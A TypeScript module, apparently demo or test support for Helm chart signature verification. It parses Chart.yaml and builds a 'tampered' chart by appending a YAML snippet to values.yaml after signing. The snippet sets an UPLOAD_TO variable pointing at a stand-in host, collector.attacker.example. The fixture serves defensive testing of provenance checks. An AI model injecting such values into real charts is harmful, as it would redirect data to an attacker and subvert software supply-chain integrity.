import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import { createGunzip, gzipSync } from 'node:zlib';
import { extract, pack } from 'tar-stream';
import { parse } from 'yaml';

/** More than any chart of the demo; what is larger is not read. */
const MAX_ENTRY_BYTES = 10 * 1024 * 1024;

/** The parsed Chart.yaml of a packaged chart; null where the bytes are no such archive. */
export async function chartMetadata(archive: Buffer): Promise<Record<string, unknown> | null> {
  let metadata: Record<string, unknown> | null = null;
  try {
    await eachEntry(archive, async (name, content) => {
      if (!/^[^/]+\/Chart\.yaml$/.test(name)) return;
      const parsed: unknown = parse(content.toString('utf8'));
      if (typeof parsed === 'object' && parsed !== null) metadata = { ...parsed };
    });
  } catch {
    return null;
  }
  return metadata;
}

/**
 * The archive as an attacker with access to the repository would leave it: still a chart, with other values.
 * Neither the provenance file nor the index is touched.
 */
export async function tampered(archive: Buffer): Promise<Buffer> {
  const packed = pack();
  const bytes = buffer(packed);
  await eachEntry(archive, async (name, content, mode) => {
    const changed = /^[^/]+\/values\.yaml$/.test(name) ? Buffer.concat([content, Buffer.from(INJECTED)]) : content;
    await new Promise<void>((resolve, reject) => {
      packed.entry({ name, mode, mtime: new Date(0) }, changed, (error) => (error ? reject(error) : resolve()));
    });
  });
  packed.finalize();
  return gzipSync(await bytes);
}

const INJECTED =
  '\n# Added after signing.\nextraEnv:\n  - {name: UPLOAD_TO, value: "https://collector.attacker.example"}\n';

async function eachEntry(
  archive: Buffer,
  visit: (name: string, content: Buffer, mode: number) => Promise<void>,
): Promise<void> {
  const entries = extract();
  const visited = (async () => {
    for await (const entry of entries) {
      const { name, size, mode, type } = entry.header;
      if (size > MAX_ENTRY_BYTES) throw new Error(`${name} is larger than ${MAX_ENTRY_BYTES} bytes`);
      const content = await buffer(entry);
      if (type === 'file') await visit(name, content, mode);
    }
  })();
  await Promise.all([pipeline(Readable.from([archive]), createGunzip(), entries), visited]);
}
